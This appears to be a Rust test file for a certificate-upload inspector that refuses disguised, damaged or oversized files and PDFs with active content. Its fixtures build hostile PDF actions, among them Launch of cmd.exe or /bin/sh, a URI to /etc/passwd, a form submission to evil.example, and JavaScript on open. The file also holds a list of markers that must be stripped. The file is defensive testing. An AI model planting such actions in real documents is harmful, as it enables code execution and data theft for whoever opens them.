//! The inspection over hand-made good and bad files, and property tests ("fuzzing") over
//! random and mutated input: whatever the bytes, the check never panics, and only files
//! that parse are accepted.

use super::samples::{jpeg, link, pdf, pdf_with, png, png_bomb};
use super::*;
use proptest::prelude::*;

fn refused(bytes: &[u8]) -> Option<Refusal> {
    match inspect(bytes) {
        Verdict::Refused(r) => Some(r),
        Verdict::Accepted(_) => None,
    }
}

#[test]
fn real_files_pass_with_their_facts() {
    assert_eq!(
        inspect(&pdf(2)),
        Verdict::Accepted(Facts {
            kind: "pdf".into(),
            pages: Some(2),
            width: None,
            height: None
        })
    );
    match inspect(&png(40, 30)) {
        Verdict::Accepted(f) => assert_eq!(
            (f.kind.as_str(), f.width, f.height),
            ("png", Some(40), Some(30))
        ),
        other => panic!("{other:?}"),
    }
    match inspect(&jpeg(64, 48)) {
        Verdict::Accepted(f) => assert_eq!(
            (f.kind.as_str(), f.width, f.height),
            ("jpeg", Some(64), Some(48))
        ),
        other => panic!("{other:?}"),
    }
}

#[test]
fn everything_else_is_refused_with_its_reason() {
    let html = b"<!DOCTYPE html><html><body>%PDF-1.7 hello</body></html>";
    assert_eq!(
        refused(html),
        Some(Refusal::NotAccepted),
        "HTML renamed .pdf"
    );
    let mut late = b"\n".to_vec();
    late.extend(pdf(1));
    assert_eq!(
        refused(&late),
        Some(Refusal::NotAccepted),
        "%PDF not at offset 0"
    );
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(4096, 0);
    assert_eq!(refused(&elf), Some(Refusal::NotAccepted), "an executable");
    assert_eq!(refused(b"MZ\x90\x00\x03"), Some(Refusal::NotAccepted));
    let good = png(200, 100);
    assert_eq!(
        refused(&good[..good.len() / 2]),
        Some(Refusal::Damaged),
        "a truncated PNG"
    );
    assert_eq!(
        refused(&png_bomb(20_000, 20_000)),
        Some(Refusal::TooManyPixels)
    );
    assert_eq!(
        refused(&png_bomb(100_000, 100_000)),
        Some(Refusal::TooManyPixels)
    );
    assert_eq!(
        refused(&png_bomb(12_000, 12_000)),
        Some(Refusal::TooManyPixels),
        "144 MP"
    );
    assert_eq!(
        refused(b"%PDF-1.7\nnot really a pdf\n%%EOF"),
        Some(Refusal::Damaged)
    );
    let doc = pdf(1);
    assert_eq!(
        refused(&doc[..doc.len() / 3]),
        Some(Refusal::Damaged),
        "a truncated PDF"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// Random bytes, with or without a valid signature in front, never panic and are
    /// never taken for a certificate.
    #[test]
    fn random_bytes_are_never_accepted(
        head in prop_oneof![
            Just(b"%PDF-1.7\n".to_vec()),
            Just(vec![0xFF, 0xD8, 0xFF, 0xE0]),
            Just(vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A]),
            proptest::collection::vec(any::<u8>(), 0..8),
        ],
        tail in proptest::collection::vec(any::<u8>(), 0..2048),
    ) {
        let mut bytes = head;
        bytes.extend(tail);
        prop_assert!(matches!(inspect(&bytes), Verdict::Refused(_)));
    }

    /// Real files with bytes changed or cut off never panic the check.
    #[test]
    fn mutated_files_never_panic(
        which in 0usize..3,
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..16),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut bytes = match which { 0 => pdf(2), 1 => png(32, 16), _ => jpeg(32, 16) };
        for (at, value) in flips {
            let i = at.index(bytes.len());
            bytes[i] = value;
        }
        bytes.truncate(cut.index(bytes.len()) + 1);
        let _ = inspect(&bytes);
    }
}

/// A PDF like `pdf(1)` with `extra` added to its catalog.
fn pdf_with_catalog_entry(key: &str, value: lopdf::Object) -> Vec<u8> {
    let mut doc = lopdf::Document::load_mem(&pdf(1)).expect("sample loads");
    let root = doc
        .trailer
        .get(b"Root")
        .and_then(lopdf::Object::as_reference)
        .expect("root");
    let value = doc.add_object(value);
    doc.get_object_mut(root)
        .and_then(lopdf::Object::as_dict_mut)
        .expect("catalog")
        .set(key, lopdf::Object::Reference(value));
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("save");
    out
}

#[test]
fn pdfs_with_scripts_actions_or_attachments_are_refused() {
    use lopdf::{Object, dictionary};
    let script = pdf_with_catalog_entry(
        "OpenAction",
        Object::Dictionary(dictionary! {
            "Type" => "Action", "S" => "JavaScript",
            "JS" => Object::string_literal("app.alert('hi')"),
        }),
    );
    assert_eq!(refused(&script), Some(Refusal::ActiveContent));
    let launch = pdf_with_catalog_entry(
        "OpenAction",
        Object::Dictionary(
            dictionary! { "S" => "Launch", "F" => Object::string_literal("calc.exe") },
        ),
    );
    assert_eq!(refused(&launch), Some(Refusal::ActiveContent));
    let attached = pdf_with_catalog_entry(
        "Names",
        Object::Dictionary(
            dictionary! { "EmbeddedFiles" => dictionary! { "Names" => Vec::<Object>::new() } },
        ),
    );
    assert_eq!(refused(&attached), Some(Refusal::ActiveContent));
    // A plain link action is no script: still accepted.
    let goto = pdf_with_catalog_entry(
        "OpenAction",
        Object::Dictionary(
            dictionary! { "S" => "GoTo", "D" => vec![Object::Integer(0), "Fit".into()] },
        ),
    );
    assert_eq!(refused(&goto), None);
}

#[test]
fn a_jpeg_cut_short_is_refused_and_bytes_after_its_end_are_not() {
    let whole = jpeg(400, 300);
    assert_eq!(refused(&whole), None);
    let mut cut = whole.clone();
    cut.truncate(whole.len() * 2 / 3);
    assert_eq!(refused(&cut), Some(Refusal::Damaged));
    let mut trailer = whole.clone();
    trailer.extend_from_slice(b"SEFHtrailer written by some phones");
    assert_eq!(refused(&trailer), None);
}

#[test]
fn actions_written_inline_are_found_too() {
    use lopdf::{Object, dictionary};
    let mut doc = lopdf::Document::load_mem(&pdf(1)).expect("sample loads");
    let root = doc
        .trailer
        .get(b"Root")
        .and_then(Object::as_reference)
        .expect("root");
    doc.get_object_mut(root)
        .and_then(Object::as_dict_mut)
        .expect("catalog")
        .set(
            "OpenAction",
            dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("x") },
        );
    let mut inline = Vec::new();
    doc.save_to(&mut inline).expect("save");
    assert_eq!(refused(&inline), Some(Refusal::ActiveContent));
    let annots = pdf_with_catalog_entry(
        "Extra",
        Object::Array(vec![Object::Dictionary(dictionary! {
            "Subtype" => "Link",
            "A" => dictionary! { "S" => "Launch", "F" => Object::string_literal("x.exe") },
        })]),
    );
    assert_eq!(refused(&annots), Some(Refusal::ActiveContent));
}

/// From the review: the old deny list let web and remote links, renditions, sounds,
/// movies, XFA forms and launch actions written per platform through. Now only a jump
/// within the document (or no action) passes, wherever the action sits.
#[test]
fn every_action_but_a_jump_within_the_document_is_refused() {
    use lopdf::{Object, dictionary};
    let s = Object::string_literal;
    let actions = [
        (
            "URI to a file",
            dictionary! { "S" => "URI", "URI" => s("file:///etc/passwd") },
        ),
        (
            "URI running a script",
            dictionary! { "S" => "URI", "URI" => s("javascript:alert(1)") },
        ),
        (
            "URI on a network share",
            dictionary! { "S" => "URI", "URI" => s("\\\\evil.example\\share") },
        ),
        (
            "GoToR",
            dictionary! { "S" => "GoToR", "F" => s("other.pdf"), "D" => vec![Object::Integer(0), "Fit".into()] },
        ),
        (
            "GoToE",
            dictionary! { "S" => "GoToE", "T" => dictionary! { "R" => "C", "N" => s("x") } },
        ),
        (
            "Launch /Win",
            dictionary! { "S" => "Launch", "Win" => dictionary! { "F" => s("cmd.exe"), "P" => s("/c calc") } },
        ),
        (
            "Launch /Unix",
            dictionary! { "S" => "Launch", "Unix" => s("/bin/sh") },
        ),
        ("Rendition", dictionary! { "S" => "Rendition", "OP" => 0 }),
        (
            "Sound",
            dictionary! { "S" => "Sound", "Sound" => Object::Null },
        ),
        ("Movie", dictionary! { "S" => "Movie", "T" => s("clip") }),
        (
            "SubmitForm",
            dictionary! { "S" => "SubmitForm", "F" => s("https://evil.example/collect") },
        ),
        (
            "ImportData",
            dictionary! { "S" => "ImportData", "F" => s("data.fdf") },
        ),
        (
            "RichMediaExecute",
            dictionary! { "S" => "RichMediaExecute", "TA" => Object::Null },
        ),
        ("Named", dictionary! { "S" => "Named", "N" => "Print" }),
        (
            "an unknown type",
            dictionary! { "Type" => "Action", "S" => "FutureThing" },
        ),
    ];
    for (what, action) in actions {
        let as_link = pdf_with(vec![link(action.clone())], vec![]);
        assert_eq!(
            refused(&as_link),
            Some(Refusal::ActiveContent),
            "a link: {what}"
        );
        let on_open = pdf_with(
            vec![],
            vec![("OpenAction", Object::Dictionary(action.clone()))],
        );
        assert_eq!(
            refused(&on_open),
            Some(Refusal::ActiveContent),
            "OpenAction: {what}"
        );
        // A harmless jump whose /Next runs the action.
        let chained = pdf_with(
            vec![link(dictionary! {
                "S" => "GoTo", "D" => vec![Object::Integer(0), "Fit".into()], "Next" => action,
            })],
            vec![],
        );
        assert_eq!(
            refused(&chained),
            Some(Refusal::ActiveContent),
            "after a GoTo: {what}"
        );
    }
}

#[test]
fn xfa_rich_media_sounds_movies_and_attachments_are_refused() {
    use lopdf::{Object, dictionary};
    let s = Object::string_literal;
    let xfa = pdf_with(
        vec![],
        vec![(
            "AcroForm",
            Object::Dictionary(
                dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => s("<xdp:xdp/>") },
            ),
        )],
    );
    assert_eq!(refused(&xfa), Some(Refusal::ActiveContent), "XFA");
    for subtype in [
        "RichMedia",
        "Sound",
        "Movie",
        "Screen",
        "FileAttachment",
        "3D",
    ] {
        let annot = Object::Dictionary(dictionary! {
            "Type" => "Annot", "Subtype" => subtype,
            "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
        });
        assert_eq!(
            refused(&pdf_with(vec![annot], vec![])),
            Some(Refusal::ActiveContent),
            "{subtype}"
        );
    }
    let page_aa = pdf_with(
        vec![Object::Dictionary(dictionary! {
            "Type" => "Annot", "Subtype" => "Widget",
            "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
            "AA" => dictionary! { "Fo" => dictionary! { "S" => "GoTo", "D" => vec![Object::Integer(0), "Fit".into()] } },
        })],
        vec![],
    );
    assert_eq!(
        refused(&page_aa),
        Some(Refusal::ActiveContent),
        "AA, whatever it holds"
    );
}

/// No false alarms: an internal link (by action or by destination), a tagged PDF's
/// structure attributes (`/A`), outlines' `/Next`, a transparency group and a page label
/// (`/S` meaning something else) pass.
#[test]
fn jumps_within_the_document_and_ordinary_structure_pass() {
    use lopdf::{Object, dictionary};
    let page = vec![Object::Integer(0), "Fit".into()];
    let ok = pdf_with(
        vec![
            link(dictionary! { "S" => "GoTo", "D" => page.clone() }),
            Object::Dictionary(dictionary! {
                "Type" => "Annot", "Subtype" => "Link",
                "Rect" => vec![0.into(), 0.into(), 10.into(), 10.into()],
                "Dest" => page.clone(),
            }),
        ],
        vec![
            ("OpenAction", Object::Array(page.clone())),
            (
                "PageLabels",
                Object::Dictionary(
                    dictionary! { "Nums" => vec![0.into(), dictionary! { "S" => "D" }.into()] },
                ),
            ),
            (
                "StructTreeRoot",
                Object::Dictionary(dictionary! {
                    "Type" => "StructTreeRoot",
                    "K" => dictionary! { "S" => "P", "A" => dictionary! { "O" => "Layout", "Placement" => "Block" } },
                }),
            ),
            (
                "Outlines",
                Object::Dictionary(dictionary! {
                    "First" => dictionary! { "Title" => Object::string_literal("1"), "Dest" => page.clone(),
                        "Next" => dictionary! { "Title" => Object::string_literal("2"), "A" => dictionary! { "S" => "GoTo", "D" => page } } },
                }),
            ),
            (
                "Group",
                Object::Dictionary(dictionary! { "S" => "Transparency", "CS" => "DeviceRGB" }),
            ),
        ],
    );
    assert_eq!(refused(&ok), None);
}

/// What the report bundling relies on: after stripping, nothing active is left, and a
/// jump within the document stays.
#[test]
fn stripping_leaves_nothing_active_and_keeps_internal_links() {
    use lopdf::Object;
    let hostile = super::samples::active_pdf();
    let mut doc = lopdf::Document::load_mem(&hostile).expect("loads");
    assert!(has_active_content(&doc));
    strip_active_content(&mut doc);
    assert!(!has_active_content(&doc));
    let page = *doc.get_pages().values().next().expect("a page");
    let annots = doc
        .get_dictionary(page)
        .and_then(|p| p.get(b"Annots"))
        .and_then(Object::as_array)
        .expect("annotations")
        .clone();
    // The two links, the GoTo (its /Next gone) and the widget (its actions gone) stay.
    assert_eq!(annots.len(), 5, "only the file attachment goes");
    let mut kept_goto = false;
    for annot in &annots {
        let dict = doc
            .dereference(annot)
            .expect("annot")
            .1
            .as_dict()
            .expect("dict");
        assert!(!dict.has(b"AA"));
        if let Ok(action) = dict.get(b"A") {
            let action = doc
                .dereference(action)
                .expect("action")
                .1
                .as_dict()
                .expect("dict");
            assert_eq!(
                action.get(b"S").and_then(Object::as_name).ok(),
                Some(&b"GoTo"[..])
            );
            assert!(!action.has(b"Next"));
            kept_goto = true;
        }
    }
    assert!(kept_goto, "a jump within the document stays");
    // As the bundle does: what nothing points to any more is not written.
    doc.prune_objects();
    let mut saved = Vec::new();
    doc.save_to(&mut saved).expect("save");
    for gone in [
        "/JavaScript",
        "/URI",
        "/Launch",
        "/SubmitForm",
        "/XFA",
        "/EmbeddedFiles",
        "/OpenAction",
        "/AA",
        "/FileAttachment",
        "/EmbeddedFile",
        "invoice.exe",
    ] {
        assert!(
            !saved.windows(gone.len()).any(|w| w == gone.as_bytes()),
            "{gone} is gone"
        );
    }
}

/// Certificates link to the provider's site or a page that verifies them: a web or mail
/// link a person clicks is kept (the report takes it out), but one that runs on opening,
/// after another action, or with something chained after it is refused.
#[test]
fn a_web_link_to_click_is_kept_and_never_runs_by_itself() {
    use lopdf::{Object, dictionary};
    let s = Object::string_literal;
    for uri in [
        "https://www.advokatsamfundet.se/",
        "HTTP://example.se/intyg?id=1",
        "mailto:kurs@example.se",
    ] {
        let web = dictionary! { "S" => "URI", "URI" => s(uri) };
        assert_eq!(
            refused(&pdf_with(vec![link(web.clone())], vec![])),
            None,
            "{uri}"
        );
        let on_open = pdf_with(
            vec![],
            vec![("OpenAction", Object::Dictionary(web.clone()))],
        );
        assert_eq!(
            refused(&on_open),
            Some(Refusal::ActiveContent),
            "on opening: {uri}"
        );
        let after_jump = pdf_with(
            vec![link(dictionary! {
                "S" => "GoTo", "D" => vec![Object::Integer(0), "Fit".into()], "Next" => web.clone(),
            })],
            vec![],
        );
        assert_eq!(
            refused(&after_jump),
            Some(Refusal::ActiveContent),
            "chained: {uri}"
        );
        let mut then_more = web;
        then_more.set("Next", dictionary! { "S" => "Launch", "F" => s("x.exe") });
        assert_eq!(
            refused(&pdf_with(vec![link(then_more)], vec![])),
            Some(Refusal::ActiveContent),
            "followed by more: {uri}"
        );
    }
}

/// From the second review: an action type written as a reference, a web link run on opening
/// through a `Next` list, and a web link under the `A` of something that is not a link
/// annotation (an outline item) are all refused.
#[test]
fn web_links_cannot_run_by_themselves_through_indirection() {
    use lopdf::{Object, dictionary};
    let s = Object::string_literal;
    let web = dictionary! { "S" => "URI", "URI" => s("https://tracker.example/") };
    let on_open_list = pdf_with(
        vec![],
        vec![(
            "OpenAction",
            Object::Dictionary(dictionary! {
                "S" => "GoTo", "D" => vec![Object::Integer(0), "Fit".into()],
                "Next" => vec![Object::Dictionary(web.clone())],
            }),
        )],
    );
    assert_eq!(
        refused(&on_open_list),
        Some(Refusal::ActiveContent),
        "Next list"
    );
    let outline_item = pdf_with(
        vec![],
        vec![(
            "Outlines",
            Object::Dictionary(dictionary! {
                "Type" => "Outlines",
                "First" => dictionary! { "Title" => s("Intyg"), "A" => web.clone() },
            }),
        )],
    );
    assert_eq!(
        refused(&outline_item),
        Some(Refusal::ActiveContent),
        "outline item"
    );
    let mut document = lopdf::Document::with_version("1.7");
    let kind = document.add_object(Object::Name(b"URI".to_vec()));
    let indirect = dictionary! { "S" => Object::Reference(kind), "URI" => s("file:///etc/passwd") };
    let as_link = pdf_with(vec![link(indirect)], vec![]);
    assert_eq!(
        refused(&as_link),
        Some(Refusal::ActiveContent),
        "indirect S"
    );
}
